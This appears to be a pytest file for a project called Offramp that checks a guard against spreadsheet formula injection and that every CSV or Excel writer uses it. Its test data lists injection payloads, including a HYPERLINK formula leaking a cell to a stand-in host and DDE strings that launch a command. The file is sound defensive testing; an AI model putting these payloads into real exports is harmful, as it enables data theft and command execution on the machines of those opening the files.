"""Issue 12: one guard against formula injection for every CSV and XLSX file Offramp writes,
and a check that every writer in the code uses it."""

import datetime
import re
from pathlib import Path

import pytest

from offramp.spreadsheets import safe_cell

SOURCE = Path(__file__).resolve().parents[1] / "src" / "offramp"
# A call that writes spreadsheet cells: csv writers and openpyxl/pandas workbooks and frames.
WRITERS = re.compile(r"csv\.writer\(|DictWriter\(|Workbook\(|\.to_csv\(|\.to_excel\(")

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "-2+3+cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "＝1+1",
]


@pytest.mark.parametrize("cell", HOSTILE)
def test_a_cell_a_spreadsheet_would_run_becomes_text(cell: str) -> None:
    assert safe_cell(cell) == f"'{cell}"


@pytest.mark.parametrize(
    "value", ["Connor Walsh", "", "-2", "+44", "-0.5", "1e-3", "O'Neill", "a=b", 3, -2.5, None]
)
def test_ordinary_values_and_plain_numbers_are_left_alone(value: object) -> None:
    assert safe_cell(value) == value


def test_dates_stay_dates_for_workbooks() -> None:
    day = datetime.date(2026, 3, 2)
    assert safe_cell(day) is day


def test_escaping_twice_changes_nothing_more() -> None:
    once = safe_cell(HOSTILE[0])
    assert safe_cell(once) == once


def test_every_module_that_writes_spreadsheet_cells_escapes_them() -> None:
    writers = [
        path
        for path in SOURCE.rglob("*.py")
        if "migrations" not in path.parts and WRITERS.search(path.read_text())
    ]
    assert writers, "the check found no writer at all: is the pattern still right?"
    unguarded = [
        str(path.relative_to(SOURCE)) for path in writers if "safe_cell" not in path.read_text()
    ]
    assert unguarded == [], "write every cell through offramp.spreadsheets.safe_cell"
